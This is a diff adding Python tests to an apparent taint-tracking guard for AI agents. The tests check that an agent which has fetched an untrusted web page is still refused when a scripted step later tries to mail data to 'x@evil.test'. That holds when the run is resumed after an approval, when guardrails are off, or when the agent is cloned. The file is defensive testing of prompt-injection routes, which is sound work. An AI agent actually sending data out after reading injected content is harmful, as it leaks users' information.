@@ -49,6 +49,7 @@ class World:
                     },
                     "fetch_page": {"data": "public", "untrusted_output": True},
                     "note": {"data": "public", "untrusted_output": False},
+                    "archive": {"data": "public", "untrusted_output": False},
                 },
             )
         )
@@ -169,3 +170,92 @@ def test_a_history_longer_than_the_marker_reads_is_tainted() -> None:
     with agent_run() as run:
         _agents_history.mark_history(g, None, history)
         assert run.untrusted
+
+
+def test_a_run_resumed_from_a_serialized_state_is_tainted(world: World) -> None:
+    # Human-in-the-loop: the first request fetches the page, then stops on
+    # a tool that needs approval; the state is stored (to_json) and resumed
+    # by a later request in a new agent_run. The SDK runs no input
+    # guardrail on a resumed run, yet its model reads the page again.
+    ran = world.ran
+
+    @function_tool(needs_approval=True)
+    def archive(name: str) -> str:
+        """Archive a document (asks the user first)."""
+        ran.append("archive")
+        return "archived"
+
+    agent = world.agent()
+    agent.tools.append(archive)
+    agent = guard_agent(world.guard, agent)
+    rounds = script(
+        [call("fetch_page", {"url": "u"})],
+        [call("archive", {"name": "n"})],
+        [call("send_mail", {"to": "x@evil.test", "body": "hi"})],
+    )
+    with acting_as(READER):
+        with agent_run():
+            first = asyncio.run(Runner.run(agent, rounds))
+        assert first.interruptions
+        stored = first.to_state().to_json()
+        with agent_run():
+            state = asyncio.run(_load(agent, stored))
+            for item in state.get_interruptions():
+                state.approve(item)
+            out = asyncio.run(Runner.run(agent, state))
+    assert "archive" in world.ran
+    _refused(world, out)
+
+
+async def _load(agent: Any, stored: Any) -> Any:
+    from agents import RunState
+
+    return await RunState.from_json(agent, stored)
+
+
+def test_an_agent_guarded_without_guardrails_still_reads_its_history(
+    world: World,
+) -> None:
+    # guardrails=False opts out of the input/output pipelines, not of I12:
+    # the earlier turn's injected page still taints the next turn.
+    agent = world.agent()
+    bare = guard_agent(
+        world.guard,
+        Agent(name="bare", model=world.model, tools=list(agent.tools)),
+        guardrails=False,
+    )
+    with acting_as(READER):
+        with agent_run():
+            first = asyncio.run(
+                Runner.run(bare, script([call("fetch_page", {"url": "u"})]))
+            )
+        history = first.to_input_list()
+        history.append({"role": "user", "content": SEND})
+        with agent_run():
+            out = asyncio.run(Runner.run(bare, history))
+    _refused(world, out)
+
+
+def test_the_agents_own_hooks_still_run_and_a_clone_is_wrapped_once(
+    world: World,
+) -> None:
+    from agents import AgentHooks
+
+    seen: list[str] = []
+
+    class Mine(AgentHooks[Any]):
+        async def on_llm_start(self, *args: Any) -> None:
+            seen.append("llm_start")
+
+        async def on_tool_end(self, *args: Any) -> None:
+            seen.append("tool_end")
+
+    agent = world.agent()
+    agent.hooks = Mine()
+    twin = agent.clone(name="twin")
+    assert type(twin.hooks.inner) is Mine
+    with acting_as(READER), agent_run() as run:
+        asyncio.run(Runner.run(twin, script([call("fetch_page", {"url": "u"})])))
+        assert run.untrusted
+    assert "llm_start" in seen
+    assert "tool_end" in seen
